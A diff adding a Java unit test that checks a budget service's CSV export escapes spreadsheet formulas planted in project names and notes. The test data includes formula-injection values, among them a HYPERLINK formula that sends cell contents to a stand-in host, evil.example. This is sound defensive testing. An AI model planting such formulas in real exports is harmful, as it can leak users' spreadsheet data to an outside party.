@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.runway.base.AccessDeniedException;
 import dev.runway.base.BadInputException;
+import dev.runway.project.ProjectService;
 import dev.runway.tenancy.Actor;
 import dev.runway.tenancy.AuditEvent;
 import dev.runway.tenancy.AuditLog;
@@ -43,6 +44,9 @@ class BudgetServiceTest {
 
     @Inject
     TestClock clock;
+
+    @Inject
+    ProjectService projects;
 
     @AfterEach
     void resetClock() {
@@ -235,6 +239,23 @@ class BudgetServiceTest {
         Actor viewer = fixture.member(company, Role.VIEWER);
         refused(viewer, () -> budget.updateFunding(seed.getId(), new BudgetService.FundingForm(FundingKind.GRANT,
                 BigDecimal.ONE, "USD", budget.today(), "")));
+    }
+
+    @Test
+    void a_formula_planted_in_a_note_or_a_project_name_is_exported_as_text() {
+        TenancyFixture.Company company = fixture.company();
+        Actor owner = company.owner();
+        long project = as(owner, () -> projects.create(new ProjectService.ProjectForm("@SUM(A1:A9)", "", "", false))
+                .getId());
+        as(owner, () -> budget.addFunding(new BudgetService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
+                "USD", budget.today(), "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")")));
+        as(owner, () -> budget.addActual(new BudgetService.ActualForm(budget.today(), SpendCategory.PEOPLE,
+                new BigDecimal("250.25"), "+1-2", project)));
+        String csv = as(owner, () -> budget.exportCsv());
+        assertThat(csv.lines().skip(1).toList()).containsExactly(
+                "funding," + budget.today() + ",Grant,1000.00,USD,,,"
+                        + "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"details\"\")\"",
+                "spend," + budget.today() + ",People,250.25,USD,'@SUM(A1:A9),entered,'+1-2");
     }
 
     @Test
